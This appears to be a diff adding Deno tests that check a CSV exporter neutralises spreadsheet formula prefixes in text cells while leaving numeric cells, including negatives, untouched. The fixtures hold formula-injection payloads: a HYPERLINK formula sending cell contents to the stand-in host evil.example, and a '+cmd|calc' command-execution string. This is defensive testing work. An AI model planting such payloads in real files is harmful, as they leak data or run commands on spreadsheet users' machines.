@@ -201,3 +201,45 @@ Deno.test("exportCsv output is accepted by the trainer's CSV reader", () => {
   assert.equal(table.scoreComputed, false);
   assert.deepEqual(table.header, [...COLUMN_NAMES]);
 });
+
+Deno.test("exportCsv neutralises formula prefixes in text cells and leaves numbers alone", () => {
+  const ml = tempDir();
+  const names = [
+    '=HYPERLINK("http://evil.example/?"&A1;"click")',
+    "+cmd|calc",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tTab",
+    "\rCR",
+  ];
+  const cpu = "=CPU()";
+  names.forEach((name, k) => store(ml, cpu, name, [makeSample(k, { cpu, game: name })]));
+  const out = join(tempDir(), "training.csv");
+  exportCsv(ml, out, { owner: null, log: () => {} });
+  const records = parse(Deno.readTextFileSync(out)) as string[][];
+  const gameCol = COLUMN_NAMES.indexOf("game_name"), cpuCol = COLUMN_NAMES.indexOf("cpu_model");
+  const exported = records.slice(1).map((r) => r[gameCol]).sort();
+  assert.deepEqual(exported, names.map((n) => "'" + n).sort());
+  for (const row of records.slice(1)) {
+    assert.equal(row[cpuCol], "'=CPU()");
+    // No cell a spreadsheet would evaluate, and every numeric cell of the original 26 still a number.
+    for (const cell of row) assert.doesNotMatch(cell, /^[=+@\t\r]/);
+    ORIGINAL_COLUMNS.forEach((name) => {
+      const i = COLUMN_NAMES.indexOf(name);
+      if (name !== "game_name") assert.ok(Number.isFinite(Number(row[i])), `${name}: ${row[i]}`);
+    });
+  }
+  // The export stays a valid training CSV in the original layout (26 columns first).
+  assert.deepEqual(records[0].slice(0, 26), [...ORIGINAL_COLUMNS]);
+});
+
+Deno.test("exportCsv keeps a negative number as it is (numeric cells are never prefixed)", () => {
+  const ml = tempDir();
+  const s = makeSample(1, { game: "G" });
+  s.metrics.cpu_util_pct = -1.5;
+  store(ml, s.cpu_model, "G", [s]);
+  const out = join(tempDir(), "training.csv");
+  exportCsv(ml, out, { owner: null, log: () => {} });
+  const records = parse(Deno.readTextFileSync(out)) as string[][];
+  assert.equal(records[1][COLUMN_NAMES.indexOf("cpu_util_pct")], "-1.5");
+});
